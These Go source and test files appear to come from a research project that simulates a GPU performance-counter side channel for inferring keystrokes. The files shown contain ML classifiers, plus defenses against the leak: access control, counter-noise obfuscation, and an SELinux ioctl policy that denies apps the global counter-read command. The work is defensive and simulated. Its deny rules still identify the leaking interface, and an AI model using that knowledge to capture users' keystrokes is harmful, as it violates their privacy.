// ---------------------------------------------------------------------
// Gaussian Naive Bayes.

// GaussianNB assumes per-class independent Gaussian features.
type GaussianNB struct {
	classes []int
	prior   map[int]float64
	mean    map[int][]float64
	vari    map[int][]float64
}

// Name implements Classifier.
func (g *GaussianNB) Name() string { return "Naive Bayes" }

// Fit estimates per-class feature means and variances.
func (g *GaussianNB) Fit(d *Dataset) error {
	if err := d.Validate(); err != nil {
		return err
	}
	dim := len(d.X[0])
	g.prior = map[int]float64{}
	g.mean = map[int][]float64{}
	g.vari = map[int][]float64{}
	counts := map[int]int{}
	for i, x := range d.X {
		y := d.Y[i]
		if g.mean[y] == nil {
			g.mean[y] = make([]float64, dim)
			g.vari[y] = make([]float64, dim)
			g.classes = append(g.classes, y)
		}
		counts[y]++
		for j, v := range x {
			g.mean[y][j] += v
		}
	}
	sort.Ints(g.classes)
	for _, y := range g.classes {
		for j := range g.mean[y] {
			g.mean[y][j] /= float64(counts[y])
		}
		g.prior[y] = float64(counts[y]) / float64(d.Len())
	}
	for i, x := range d.X {
		y := d.Y[i]
		for j, v := range x {
			dv := v - g.mean[y][j]
			g.vari[y][j] += dv * dv
		}
	}
	// Variance smoothing keeps degenerate (constant) features finite.
	var maxVar float64
	for _, y := range g.classes {
		for j := range g.vari[y] {
			g.vari[y][j] /= float64(counts[y])
			if g.vari[y][j] > maxVar {
				maxVar = g.vari[y][j]
			}
		}
	}
	eps := 1e-9 * (maxVar + 1)
	for _, y := range g.classes {
		for j := range g.vari[y] {
			g.vari[y][j] += eps
		}
	}
	return nil
}

// Predict returns the maximum-posterior class.
func (g *GaussianNB) Predict(x []float64) int {
	best, bestLL := 0, math.Inf(-1)
	for _, y := range g.classes {
		ll := math.Log(g.prior[y])
		for j, v := range x {
			m, s2 := g.mean[y][j], g.vari[y][j]
			ll += -0.5*math.Log(2*math.Pi*s2) - (v-m)*(v-m)/(2*s2)
		}
		if ll > bestLL {
			bestLL = ll
			best = y
		}
	}
	return best
}

// ---------------------------------------------------------------------
// K-nearest neighbors.

// KNN is a k-nearest-neighbor classifier with per-dimension
// standardization (z-scoring) so heterogeneous counters compare fairly.
type KNN struct {
	K     int
	x     [][]float64
	y     []int
	mu    []float64
	sigma []float64
}

// Name implements Classifier.
func (k *KNN) Name() string { return fmt.Sprintf("KNN%d", k.k()) }

func (k *KNN) k() int {
	if k.K <= 0 {
		return 3
	}
	return k.K
}

// Fit memorizes the standardized training set.
func (k *KNN) Fit(d *Dataset) error {
	if err := d.Validate(); err != nil {
		return err
	}
	dim := len(d.X[0])
	k.mu = make([]float64, dim)
	k.sigma = make([]float64, dim)
	for _, x := range d.X {
		for j, v := range x {
			k.mu[j] += v
		}
	}
	for j := range k.mu {
		k.mu[j] /= float64(d.Len())
	}
	for _, x := range d.X {
		for j, v := range x {
			dv := v - k.mu[j]
			k.sigma[j] += dv * dv
		}
	}
	for j := range k.sigma {
		k.sigma[j] = math.Sqrt(k.sigma[j] / float64(d.Len()))
		if k.sigma[j] == 0 {
			k.sigma[j] = 1
		}
	}
	k.x = make([][]float64, d.Len())
	for i, x := range d.X {
		k.x[i] = k.standardize(x)
	}
	k.y = append([]int(nil), d.Y...)
	return nil
}

func (k *KNN) standardize(x []float64) []float64 {
	out := make([]float64, len(x))
	for j, v := range x {
		out[j] = (v - k.mu[j]) / k.sigma[j]
	}
	return out
}

// Predict votes among the K nearest training samples.
func (k *KNN) Predict(x []float64) int {
	type cand struct {
		d float64
		y int
	}
	xs := k.standardize(x)
	cands := make([]cand, len(k.x))
	for i, t := range k.x {
		var ss float64
		for j := range t {
			dv := xs[j] - t[j]
			ss += dv * dv
		}
		cands[i] = cand{d: ss, y: k.y[i]}
	}
	sort.Slice(cands, func(i, j int) bool { return cands[i].d < cands[j].d })
	votes := map[int]int{}
	n := k.k()
	if n > len(cands) {
		n = len(cands)
	}
	best, bestVotes := 0, -1
	for i := 0; i < n; i++ {
		votes[cands[i].y]++
		if votes[cands[i].y] > bestVotes {
			bestVotes = votes[cands[i].y]
			best = cands[i].y
		}
	}
	return best
}

// ---------------------------------------------------------------------
// Random forest.

// RandomForest is a bagged ensemble of CART decision trees with random
// feature subsampling.
type RandomForest struct {
	Trees    int
	MaxDepth int
	MinLeaf  int
	Seed     int64
	trees    []*node
}

// Name implements Classifier.
func (f *RandomForest) Name() string { return "Random Forest" }

type node struct {
	feature  int
	thresh   float64
	left     *node
	right    *node
	leafPred int
	leaf     bool
}

func (f *RandomForest) defaults() (trees, depth, minLeaf int) {
	trees = f.Trees
	if trees <= 0 {
		trees = 40
	}
	depth = f.MaxDepth
	if depth <= 0 {
		depth = 10
	}
	minLeaf = f.MinLeaf
	if minLeaf <= 0 {
		minLeaf = 2
	}
	return
}

// Fit grows the forest on bootstrap resamples.
func (f *RandomForest) Fit(d *Dataset) error {
	if err := d.Validate(); err != nil {
		return err
	}
	trees, depth, minLeaf := f.defaults()
	rng := sim.NewRand(f.Seed + 1)
	dim := len(d.X[0])
	mtry := int(math.Sqrt(float64(dim)))
	if mtry < 1 {
		mtry = 1
	}
	f.trees = make([]*node, trees)
	for t := 0; t < trees; t++ {
		idx := make([]int, d.Len())
		for i := range idx {
			idx[i] = rng.Intn(d.Len())
		}
		f.trees[t] = growTree(d, idx, depth, minLeaf, mtry, rng)
	}
	return nil
}

func growTree(d *Dataset, idx []int, depth, minLeaf, mtry int, rng *sim.Rand) *node {
	if depth == 0 || len(idx) <= minLeaf || pure(d, idx) {
		return &node{leaf: true, leafPred: majority(d, idx)}
	}
	dim := len(d.X[0])
	feats := rng.Perm(dim)[:mtry]
	bestGini := math.Inf(1)
	bestFeat, bestThresh := -1, 0.0
	for _, ft := range feats {
		vals := make([]float64, len(idx))
		for i, id := range idx {
			vals[i] = d.X[id][ft]
		}
		sort.Float64s(vals)
		// Candidate thresholds at quartiles keep tree growth cheap.
		for _, q := range []float64{0.25, 0.5, 0.75} {
			th := vals[int(q*float64(len(vals)-1))]
			g := splitGini(d, idx, ft, th)
			if g < bestGini {
				bestGini = g
				bestFeat = ft
				bestThresh = th
			}
		}
	}
	if bestFeat < 0 {
		return &node{leaf: true, leafPred: majority(d, idx)}
	}
	var li, ri []int
	for _, id := range idx {
		if d.X[id][bestFeat] <= bestThresh {
			li = append(li, id)
		} else {
			ri = append(ri, id)
		}
	}
	if len(li) == 0 || len(ri) == 0 {
		return &node{leaf: true, leafPred: majority(d, idx)}
	}
	return &node{
		feature: bestFeat,
		thresh:  bestThresh,
		left:    growTree(d, li, depth-1, minLeaf, mtry, rng),
		right:   growTree(d, ri, depth-1, minLeaf, mtry, rng),
	}
}

func pure(d *Dataset, idx []int) bool {
	if len(idx) == 0 {
		return true
	}
	first := d.Y[idx[0]]
	for _, id := range idx[1:] {
		if d.Y[id] != first {
			return false
		}
	}
	return true
}

func majority(d *Dataset, idx []int) int {
	votes := map[int]int{}
	for _, id := range idx {
		votes[d.Y[id]]++
	}
	// Deterministic tie-break: the smallest class label wins.
	best, bestN := 0, -1
	for y, n := range votes {
		if n > bestN || (n == bestN && y < best) {
			bestN = n
			best = y
		}
	}
	return best
}

func splitGini(d *Dataset, idx []int, ft int, th float64) float64 {
	lCounts := map[int]int{}
	rCounts := map[int]int{}
	nl, nr := 0, 0
	for _, id := range idx {
		if d.X[id][ft] <= th {
			lCounts[d.Y[id]]++
			nl++
		} else {
			rCounts[d.Y[id]]++
			nr++
		}
	}
	// Sum class probabilities in sorted-label order: map iteration order
	// would make the floating-point sum — and therefore split tie-breaks —
	// nondeterministic.
	gini := func(counts map[int]int, n int) float64 {
		if n == 0 {
			return 0
		}
		labels := make([]int, 0, len(counts))
		for y := range counts {
			labels = append(labels, y)
		}
		sort.Ints(labels)
		g := 1.0
		for _, y := range labels {
			p := float64(counts[y]) / float64(n)
			g -= p * p
		}
		return g
	}
	n := float64(nl + nr)
	return float64(nl)/n*gini(lCounts, nl) + float64(nr)/n*gini(rCounts, nr)
}

// Predict takes the majority vote of the trees.
func (f *RandomForest) Predict(x []float64) int {
	votes := map[int]int{}
	for _, t := range f.trees {
		votes[t.predict(x)]++
	}
	best, bestN := 0, -1
	for y, n := range votes {
		if n > bestN || (n == bestN && y < best) {
			bestN = n
			best = y
		}
	}
	return best
}

func (n *node) predict(x []float64) int {
	for !n.leaf {
		if x[n.feature] <= n.thresh {
			n = n.left
		} else {
			n = n.right
		}
	}
	return n.leafPred
}
