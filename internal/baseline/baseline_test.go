package baseline

import (
	"testing"

	"gpuleak/internal/sim"
)

// blobs builds a well-separated 3-class Gaussian dataset.
func blobs(rng *sim.Rand, n int, spread float64) *Dataset {
	centers := [][]float64{{0, 0, 0}, {6, 0, 3}, {0, 6, -3}}
	d := &Dataset{}
	for i := 0; i < n; i++ {
		y := i % 3
		x := make([]float64, 3)
		for j := range x {
			x[j] = centers[y][j] + rng.Norm(0, spread)
		}
		d.Add(x, y)
	}
	return d
}

func classifiers() []Classifier {
	return []Classifier{
		&GaussianNB{},
		&KNN{K: 3},
		&RandomForest{Trees: 25, Seed: 7},
	}
}

func TestSeparableBlobs(t *testing.T) {
	rng := sim.NewRand(1)
	train := blobs(rng, 300, 0.5)
	test := blobs(rng, 150, 0.5)
	for _, c := range classifiers() {
		if err := c.Fit(train); err != nil {
			t.Fatalf("%s: %v", c.Name(), err)
		}
		if acc := Accuracy(c, test); acc < 0.95 {
			t.Errorf("%s accuracy on separable blobs = %v", c.Name(), acc)
		}
	}
}

func TestNoisyBlobsNearChance(t *testing.T) {
	// When noise drowns the class structure, accuracy collapses toward
	// chance — the Table-2 regime.
	rng := sim.NewRand(2)
	train := blobs(rng, 300, 40)
	test := blobs(rng, 300, 40)
	for _, c := range classifiers() {
		if err := c.Fit(train); err != nil {
			t.Fatal(err)
		}
		if acc := Accuracy(c, test); acc > 0.60 {
			t.Errorf("%s accuracy on noise = %v, want near chance", c.Name(), acc)
		}
	}
}

func TestValidate(t *testing.T) {
	d := &Dataset{}
	if err := d.Validate(); err == nil {
		t.Fatal("empty dataset validated")
	}
	d.Add([]float64{1, 2}, 0)
	d.Add([]float64{1}, 1)
	if err := d.Validate(); err == nil {
		t.Fatal("ragged dataset validated")
	}
	d2 := &Dataset{X: [][]float64{{1}}, Y: []int{0, 1}}
	if err := d2.Validate(); err == nil {
		t.Fatal("mismatched labels validated")
	}
}

func TestFitErrorsOnBadData(t *testing.T) {
	for _, c := range classifiers() {
		if err := c.Fit(&Dataset{}); err == nil {
			t.Errorf("%s accepted empty dataset", c.Name())
		}
	}
}

func TestNBConstantFeature(t *testing.T) {
	// A zero-variance feature must not produce NaN posteriors.
	d := &Dataset{}
	rng := sim.NewRand(3)
	for i := 0; i < 60; i++ {
		y := i % 2
		d.Add([]float64{1.0, float64(y)*4 + rng.Norm(0, 0.3)}, y)
	}
	nb := &GaussianNB{}
	if err := nb.Fit(d); err != nil {
		t.Fatal(err)
	}
	if acc := Accuracy(nb, d); acc < 0.9 {
		t.Fatalf("NB with constant feature: accuracy %v", acc)
	}
}

func TestKNNStandardizationMatters(t *testing.T) {
	// One informative small-scale dim plus one huge uninformative dim:
	// without z-scoring KNN would fail.
	d := &Dataset{}
	rng := sim.NewRand(4)
	for i := 0; i < 200; i++ {
		y := i % 2
		d.Add([]float64{float64(y) + rng.Norm(0, 0.1), rng.Norm(0, 1e6)}, y)
	}
	knn := &KNN{K: 3}
	if err := knn.Fit(d); err != nil {
		t.Fatal(err)
	}
	test := &Dataset{}
	for i := 0; i < 100; i++ {
		y := i % 2
		test.Add([]float64{float64(y) + rng.Norm(0, 0.1), rng.Norm(0, 1e6)}, y)
	}
	if acc := Accuracy(knn, test); acc < 0.9 {
		t.Fatalf("standardized KNN accuracy = %v", acc)
	}
}

func TestKNNDefaultK(t *testing.T) {
	k := &KNN{}
	if k.Name() != "KNN3" {
		t.Fatalf("default name = %s", k.Name())
	}
}

func TestForestDeterministicWithSeed(t *testing.T) {
	rng := sim.NewRand(5)
	train := blobs(rng, 120, 1.0)
	test := blobs(rng, 60, 1.0)
	a := &RandomForest{Trees: 15, Seed: 9}
	b := &RandomForest{Trees: 15, Seed: 9}
	if err := a.Fit(train); err != nil {
		t.Fatal(err)
	}
	if err := b.Fit(train); err != nil {
		t.Fatal(err)
	}
	for _, x := range test.X {
		if a.Predict(x) != b.Predict(x) {
			t.Fatal("same-seed forests disagree")
		}
	}
}

func TestAccuracyEmptyTest(t *testing.T) {
	nb := &GaussianNB{}
	rng := sim.NewRand(6)
	if err := nb.Fit(blobs(rng, 30, 1)); err != nil {
		t.Fatal(err)
	}
	if Accuracy(nb, &Dataset{}) != 0 {
		t.Fatal("empty test accuracy != 0")
	}
}
