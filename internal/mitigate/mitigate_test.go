package mitigate

import (
	"errors"
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
	"gpuleak/internal/sim"
)

func TestRBACDeniesUntrustedApp(t *testing.T) {
	p := NewRBACPolicy()
	ctx := kgsl.UntrustedApp(77)
	k := adreno.CounterKey{Group: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := p.AllowPerfcounterRead(ctx, k); !errors.Is(err, kgsl.ErrPerm) {
		t.Fatalf("untrusted app allowed: %v", err)
	}
}

func TestRBACAllowsProfiler(t *testing.T) {
	p := NewRBACPolicy()
	ctx := kgsl.ProcContext{PID: 1, UID: 2000, SELinuxContext: "u:r:shell:s0"}
	k := adreno.CounterKey{Group: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := p.AllowPerfcounterRead(ctx, k); err != nil {
		t.Fatalf("shell denied: %v", err)
	}
}

func TestRBACGroupScoping(t *testing.T) {
	p := NewRBACPolicy().RestrictOverdrawGroupsOnly()
	ctx := kgsl.UntrustedApp(77)
	lrz := adreno.CounterKey{Group: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	sp := adreno.CounterKey{Group: adreno.GroupSP, Countable: 0}
	if err := p.AllowPerfcounterRead(ctx, lrz); err == nil {
		t.Fatal("overdraw group readable under scoped policy")
	}
	if err := p.AllowPerfcounterRead(ctx, sp); err != nil {
		t.Fatalf("non-overdraw group blocked: %v", err)
	}
}

func TestObfuscatorMonotone(t *testing.T) {
	o := &NoiseObfuscator{Amplitude: 0.5, Seed: 42}
	k := adreno.Selected[0]
	base := uint64(1_000_000)
	prev := uint64(0)
	for ts := sim.Time(0); ts < 2*sim.Second; ts += 7 * sim.Millisecond {
		v := o.Obfuscate(k, base, ts)
		if v < prev {
			t.Fatalf("obfuscated counter decreased at %v", ts)
		}
		if v < base {
			t.Fatal("obfuscation removed real work")
		}
		prev = v
	}
	if prev == base {
		t.Fatal("no noise injected over 2 s")
	}
}

func TestObfuscatorDeterministic(t *testing.T) {
	a := &NoiseObfuscator{Amplitude: 0.5, Seed: 1}
	b := &NoiseObfuscator{Amplitude: 0.5, Seed: 1}
	k := adreno.Selected[3]
	for ts := sim.Time(0); ts < sim.Second; ts += 8 * sim.Millisecond {
		if a.Obfuscate(k, 5, ts) != b.Obfuscate(k, 5, ts) {
			t.Fatal("same-seed obfuscators diverge")
		}
	}
	c := &NoiseObfuscator{Amplitude: 0.5, Seed: 2}
	same := true
	for ts := sim.Time(0); ts < sim.Second; ts += 8 * sim.Millisecond {
		if a.Obfuscate(k, 5, ts) != c.Obfuscate(k, 5, ts) {
			same = false
		}
	}
	if same {
		t.Fatal("different seeds produce identical noise")
	}
}

func TestObfuscatorZeroAmplitudeIdentity(t *testing.T) {
	o := &NoiseObfuscator{Amplitude: 0}
	k := adreno.Selected[0]
	if o.Obfuscate(k, 123, sim.Second) != 123 {
		t.Fatal("zero-amplitude obfuscator not identity")
	}
}

func TestObfuscatorUnknownCounterIdentity(t *testing.T) {
	o := &NoiseObfuscator{Amplitude: 1, Seed: 3}
	k := adreno.CounterKey{Group: adreno.GroupSP, Countable: 0}
	if o.Obfuscate(k, 99, sim.Second) != 99 {
		t.Fatal("unselected counter obfuscated")
	}
}

func TestObfuscatorScalesWithAmplitude(t *testing.T) {
	noise := func(amp float64) uint64 {
		o := &NoiseObfuscator{Amplitude: amp, Seed: 7}
		return o.Obfuscate(adreno.Selected[0], 0, 10*sim.Second)
	}
	lo := noise(0.1)
	hi := noise(1.0)
	if hi <= lo {
		t.Fatalf("amplitude not scaling: %d vs %d", lo, hi)
	}
}

func TestGPUCostTradeoff(t *testing.T) {
	small := (&NoiseObfuscator{Amplitude: 0.1}).GPUCostFraction()
	big := (&NoiseObfuscator{Amplitude: 2}).GPUCostFraction()
	if small <= 0 || big <= small || big > 1 {
		t.Fatalf("cost model wrong: %v, %v", small, big)
	}
}

func TestDefaultScale(t *testing.T) {
	var mean [adreno.NumSelected]float64
	mean[0] = 1600
	mean[3] = -2.5e6
	s := DefaultScale(mean)
	if s[0] != 1600 || s[3] != 2_500_000 {
		t.Fatalf("scale = %v", s)
	}
}
