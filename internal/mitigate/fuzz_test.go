package mitigate

import (
	"strings"
	"testing"
)

// FuzzParsePolicy hardens the SELinux rule parser: arbitrary input must
// produce either a valid policy or an error — never a panic, and a parsed
// policy must never grant an unlisted command.
func FuzzParsePolicy(f *testing.F) {
	f.Add("allowxperm untrusted_app kgsl_device ioctl { 0x38 }")
	f.Add("allowxperm a kgsl_device ioctl { 0x30-0x3F }\nneverallow a kgsl_device ioctl { 0x3B }")
	f.Add("# comment only")
	f.Add("")
	f.Add("allowxperm \x00 kgsl_device ioctl { 99999999999 }")
	f.Fuzz(func(t *testing.T, doc string) {
		p, err := ParsePolicy(strings.NewReader(doc))
		if err != nil {
			return
		}
		// Default deny: a domain that never appears in the document must
		// not be granted anything.
		if p.AllowIoctl("fuzz-nonexistent-domain", 0x3B) {
			t.Fatal("unlisted domain granted access")
		}
	})
}
