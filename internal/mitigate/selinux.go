package mitigate

import (
	"bufio"
	"fmt"
	"io"
	"strconv"
	"strings"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
)

// The paper's §9.2 proposes enforcing GPU-counter RBAC through SELinux's
// ioctl command whitelisting ("ioctlcmd" extended permissions, [52]):
// policy rules list, per source domain, which ioctl request numbers a
// process may issue against the GPU device class. This file implements a
// small policy engine over that rule language so the mitigation can be
// expressed the way an Android platform engineer would ship it.
//
// Rule syntax (one rule per line, '#' comments):
//
//	allowxperm <domain> kgsl_device ioctl { 0x38 0x3B }
//	allowxperm <domain> kgsl_device ioctl { 0x30-0x37 }
//	neverallow <domain> kgsl_device ioctl { 0x3B }
//
// Unlisted (domain, command) pairs are denied, matching SELinux's
// default-deny xperm semantics once any xperm rule exists for the class.

// IoctlPolicy is a compiled SELinux-style ioctl whitelist.
type IoctlPolicy struct {
	allow map[string]map[uint32]bool
	never map[string]map[uint32]bool
}

// ParsePolicy compiles a policy document.
func ParsePolicy(r io.Reader) (*IoctlPolicy, error) {
	p := &IoctlPolicy{
		allow: map[string]map[uint32]bool{},
		never: map[string]map[uint32]bool{},
	}
	sc := bufio.NewScanner(r)
	lineNo := 0
	for sc.Scan() {
		lineNo++
		line := strings.TrimSpace(sc.Text())
		if line == "" || strings.HasPrefix(line, "#") {
			continue
		}
		fields := strings.Fields(line)
		if len(fields) < 5 {
			return nil, fmt.Errorf("selinux: line %d: malformed rule %q", lineNo, line)
		}
		kind, domain, class, perm := fields[0], fields[1], fields[2], fields[3]
		if class != "kgsl_device" || perm != "ioctl" {
			return nil, fmt.Errorf("selinux: line %d: unsupported class/perm %s/%s", lineNo, class, perm)
		}
		cmds, err := parseCmdSet(strings.Join(fields[4:], " "))
		if err != nil {
			return nil, fmt.Errorf("selinux: line %d: %w", lineNo, err)
		}
		var dst map[string]map[uint32]bool
		switch kind {
		case "allowxperm":
			dst = p.allow
		case "neverallow":
			dst = p.never
		default:
			return nil, fmt.Errorf("selinux: line %d: unknown rule kind %q", lineNo, kind)
		}
		if dst[domain] == nil {
			dst[domain] = map[uint32]bool{}
		}
		for _, c := range cmds {
			dst[domain][c] = true
		}
	}
	if err := sc.Err(); err != nil {
		return nil, err
	}
	return p, nil
}

// parseCmdSet parses "{ 0x38 0x3A-0x3B }" into command numbers.
func parseCmdSet(s string) ([]uint32, error) {
	s = strings.TrimSpace(s)
	if !strings.HasPrefix(s, "{") || !strings.HasSuffix(s, "}") {
		return nil, fmt.Errorf("command set must be brace-delimited: %q", s)
	}
	var out []uint32
	for _, tok := range strings.Fields(strings.Trim(s, "{} ")) {
		if lo, hi, ok := strings.Cut(tok, "-"); ok {
			a, err := parseCmd(lo)
			if err != nil {
				return nil, err
			}
			b, err := parseCmd(hi)
			if err != nil {
				return nil, err
			}
			if b < a {
				return nil, fmt.Errorf("inverted range %q", tok)
			}
			for c := a; c <= b; c++ {
				out = append(out, c)
			}
			continue
		}
		c, err := parseCmd(tok)
		if err != nil {
			return nil, err
		}
		out = append(out, c)
	}
	if len(out) == 0 {
		return nil, fmt.Errorf("empty command set")
	}
	return out, nil
}

func parseCmd(s string) (uint32, error) {
	v, err := strconv.ParseUint(strings.TrimSpace(s), 0, 16)
	if err != nil {
		return 0, fmt.Errorf("bad ioctl command %q", s)
	}
	return uint32(v), nil
}

// AllowIoctl decides whether a domain may issue the ioctl command nr
// (the low byte of the request code). neverallow wins over allowxperm;
// anything unlisted is denied.
func (p *IoctlPolicy) AllowIoctl(domain string, nr uint32) bool {
	if p.never[domain][nr] {
		return false
	}
	return p.allow[domain][nr]
}

// AllowPerfcounterRead implements kgsl.Policy: a counter read requires
// the PERFCOUNTER_READ ioctl (command 0x3B).
func (p *IoctlPolicy) AllowPerfcounterRead(ctx kgsl.ProcContext, k adreno.CounterKey) error {
	if p.AllowIoctl(domainOf(ctx), 0x3B) {
		return nil
	}
	return kgsl.ErrPerm
}

// domainOf extracts the SELinux type (domain) from a full context like
// "u:r:untrusted_app:s0".
func domainOf(ctx kgsl.ProcContext) string {
	parts := strings.Split(ctx.SELinuxContext, ":")
	if len(parts) >= 3 {
		return parts[2]
	}
	return ctx.SELinuxContext
}

// GooglePatchPolicy is the shape of the fix the paper's disclosure led
// to: graphics clients keep the ioctls user-space drivers need (property
// queries, command submission, perfcounter queries), while the global
// PERFCOUNTER_READ is reserved for platform domains.
const GooglePatchPolicy = `
# GPU access for ordinary applications: everything the user-space GL/Vulkan
# driver requires, including reserving counters (GET 0x38 / PUT 0x39) and
# listing them (QUERY 0x3A) — but NOT the global block-read.
allowxperm untrusted_app kgsl_device ioctl { 0x00-0x37 0x38-0x3A 0x3C-0x4F }

# Platform profilers keep full access.
allowxperm platform_app kgsl_device ioctl { 0x00-0x4F }
allowxperm shell        kgsl_device ioctl { 0x00-0x4F }

# Defense in depth: the global counter read is never granted to app domains.
neverallow untrusted_app kgsl_device ioctl { 0x3B }
`

// NewGooglePatchPolicy compiles GooglePatchPolicy.
func NewGooglePatchPolicy() *IoctlPolicy {
	p, err := ParsePolicy(strings.NewReader(GooglePatchPolicy))
	if err != nil {
		panic("mitigate: built-in policy failed to parse: " + err.Error())
	}
	return p
}
