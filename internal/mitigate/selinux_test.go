package mitigate

import (
	"errors"
	"strings"
	"testing"

	"gpuleak/internal/adreno"
	"gpuleak/internal/kgsl"
)

func TestParsePolicyBasics(t *testing.T) {
	p, err := ParsePolicy(strings.NewReader(`
# comment
allowxperm untrusted_app kgsl_device ioctl { 0x38 0x3A }
allowxperm shell kgsl_device ioctl { 0x30-0x3B }
neverallow untrusted_app kgsl_device ioctl { 0x3B }
`))
	if err != nil {
		t.Fatal(err)
	}
	if !p.AllowIoctl("untrusted_app", 0x38) {
		t.Error("explicit allow denied")
	}
	if p.AllowIoctl("untrusted_app", 0x3B) {
		t.Error("neverallow not enforced")
	}
	if p.AllowIoctl("untrusted_app", 0x39) {
		t.Error("unlisted command allowed")
	}
	if !p.AllowIoctl("shell", 0x3B) {
		t.Error("range allow failed")
	}
	if p.AllowIoctl("radio", 0x38) {
		t.Error("unknown domain allowed")
	}
}

func TestParsePolicyErrors(t *testing.T) {
	cases := []string{
		"allowxperm untrusted_app kgsl_device ioctl",   // missing set
		"allowxperm a kgsl_device ioctl 0x38",          // no braces
		"allowxperm a kgsl_device ioctl { }",           // empty set
		"allowxperm a kgsl_device ioctl { zz }",        // bad number
		"allowxperm a kgsl_device ioctl { 0x3B-0x38 }", // inverted range
		"allowxperm a other_device ioctl { 0x38 }",     // wrong class
		"grant a kgsl_device ioctl { 0x38 }",           // unknown kind
		"allowxperm a kgsl_device read { 0x38 }",       // wrong perm
	}
	for _, c := range cases {
		if _, err := ParsePolicy(strings.NewReader(c)); err == nil {
			t.Errorf("accepted malformed rule %q", c)
		}
	}
}

func TestGooglePatchPolicyShape(t *testing.T) {
	p := NewGooglePatchPolicy()
	// Apps keep the driver path: GET/PUT/QUERY and command submission.
	for _, nr := range []uint32{0x11, 0x38, 0x39, 0x3A} {
		if !p.AllowIoctl("untrusted_app", nr) {
			t.Errorf("driver ioctl 0x%X blocked for apps", nr)
		}
	}
	// The global block-read is gone for apps, kept for platform tooling.
	if p.AllowIoctl("untrusted_app", 0x3B) {
		t.Error("PERFCOUNTER_READ still allowed for untrusted_app")
	}
	if !p.AllowIoctl("platform_app", 0x3B) || !p.AllowIoctl("shell", 0x3B) {
		t.Error("profilers lost counter access")
	}
}

func TestIoctlPolicyAsKGSLPolicy(t *testing.T) {
	p := NewGooglePatchPolicy()
	k := adreno.CounterKey{Group: adreno.GroupLRZ, Countable: adreno.LRZVisiblePrimAfterLRZ}
	if err := p.AllowPerfcounterRead(kgsl.UntrustedApp(9), k); !errors.Is(err, kgsl.ErrPerm) {
		t.Fatalf("untrusted app read allowed: %v", err)
	}
	shell := kgsl.ProcContext{PID: 1, UID: 2000, SELinuxContext: "u:r:shell:s0"}
	if err := p.AllowPerfcounterRead(shell, k); err != nil {
		t.Fatalf("shell read denied: %v", err)
	}
	// Degenerate context strings fall back to the raw value (denied).
	weird := kgsl.ProcContext{SELinuxContext: "untrusted_app"}
	if err := p.AllowPerfcounterRead(weird, k); err == nil {
		t.Fatal("raw-context fallback allowed the read")
	}
}
