// Package mitigate implements the paper's §9 defenses:
//
//   - role-based access control on GPU performance counters, enforceable
//     through SELinux ioctl whitelisting (§9.2) — as a kgsl.Policy;
//   - obfuscation of counter values by random background GPU workloads
//     (§9.3) — as a kgsl.Obfuscator;
//   - popup disabling (§9.1) — via victim.Config.DisablePopups;
//   - decorative login animations (§9.3) — via the android.PNC app.
//
// The policy and obfuscator types themselves live in internal/defense —
// the registry-driven defense plane that grew out of this package — and
// are re-exported here as thin aliases, so there is a single defense
// vocabulary and the historic mitigate call sites keep compiling
// unchanged. The SELinux ioctl-whitelist parser (selinux.go) stays
// native to this package. The experiments in internal/exp quantify each
// defense's effect on the attack's accuracy; cmd/arms sweeps the
// registered defense plane over strength levels.
package mitigate

import (
	"gpuleak/internal/adreno"
	"gpuleak/internal/defense"
)

// RBACPolicy is the §9.2 fine-grained role-based access control,
// re-exported from the defense plane (defense.RBACPolicy).
type RBACPolicy = defense.RBACPolicy

// NoiseObfuscator is the §9.3 OS-level obfuscation, re-exported from the
// defense plane (defense.NoiseObfuscator).
type NoiseObfuscator = defense.NoiseObfuscator

// NewRBACPolicy builds the paper's recommended policy: platform and shell
// domains may profile; untrusted apps may not read any global counter.
func NewRBACPolicy() *RBACPolicy { return defense.NewRBACPolicy() }

// DefaultCounterScale holds representative per-counter key-press delta
// magnitudes (OnePlus 8 Pro, FHD+, GBoard), used when Scale is unset. It
// is a copy of defense.DefaultCounterScale, the canonical table.
var DefaultCounterScale = defense.DefaultCounterScale

// DefaultScale derives per-counter reference magnitudes from a trained
// attack model's mean key delta (what the OS vendor would measure on a
// reference device).
func DefaultScale(meanKeyDelta [adreno.NumSelected]float64) [adreno.NumSelected]uint64 {
	return defense.DefaultScale(meanKeyDelta)
}
