// Package cupti simulates the desktop-GPU counter substrate used for the
// paper's Table-2 comparison with prior work [37] (Naghibijouybari et al.,
// "Rendered Insecure"). That attack reads workload-level Nvidia counters
// through the CUPTI interface every 10 ms while a victim types into
// desktop applications (gedit, the Gmail login page in Chrome, the
// Dropbox client).
//
// The substance of Table 2 is architectural: workload-level counters
// (SM occupancy, DRAM utilization, framebuffer traffic) measure how much
// the GPU is doing, not which pixels changed. A keystroke's popup-free
// desktop redraw perturbs them by far less than their run-to-run noise,
// so per-key classification barely beats chance. This package reproduces
// that regime: per-key signal exists (different glyphs do rasterize
// different pixel counts) but is an order of magnitude below measurement
// noise.
package cupti

import (
	"gpuleak/internal/geom"
	"gpuleak/internal/glyph"
	"gpuleak/internal/sim"
)

// NumCounters is the dimensionality of the CUPTI feature vector.
const NumCounters = 8

// CounterNames are representative CUPTI metrics from [37].
var CounterNames = [NumCounters]string{
	"sm_efficiency",
	"achieved_occupancy",
	"dram_utilization",
	"fb_subp0_read_sectors",
	"fb_subp0_write_sectors",
	"tex_cache_requests",
	"l2_subp0_read_sector_misses",
	"inst_executed",
}

// Workload is one desktop victim application.
type Workload struct {
	Name string
	// base is the magnitude of each counter per keystroke-window.
	base [NumCounters]float64
	// noise is the relative measurement noise (run-to-run variation from
	// compositing, other windows, GPU clock changes).
	noise float64
	// sensitivity scales how much of the per-glyph pixel difference
	// reaches the counters (relative to base).
	sensitivity float64
}

// The three Table-2 victim applications. gedit redraws only the text
// area (slightly higher sensitivity); the browser and the Dropbox client
// composite full surfaces (more noise).
var (
	Gedit    = &Workload{Name: "gedit", base: baseVec(1.00), noise: 0.040, sensitivity: 0.55}
	GmailWeb = &Workload{Name: "gmail-web", base: baseVec(1.45), noise: 0.055, sensitivity: 0.58}
	Dropbox  = &Workload{Name: "dropbox-client", base: baseVec(1.25), noise: 0.050, sensitivity: 0.56}
)

// Workloads lists the Table-2 columns in order.
